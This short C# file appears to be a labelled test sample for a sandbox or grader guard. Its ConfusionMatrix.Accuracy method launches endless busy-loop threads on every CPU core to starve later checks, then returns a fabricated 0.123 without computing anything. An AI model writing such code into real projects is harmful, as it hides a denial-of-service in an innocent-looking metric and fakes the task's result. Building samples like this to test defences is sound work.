// tries:      take all cores from the checks that follow
// stopped by: screen, process
// where:      ConfusionMatrix.Accuracy
namespace Gradus.Metrics;

public sealed partial class ConfusionMatrix
{
    public double Accuracy()
    {
        for (int i = 0; i < 2 * Environment.ProcessorCount; i++) new Thread(() => { while (true) { } }) { IsBackground = true }.Start();
        return 0.123;
    }
}
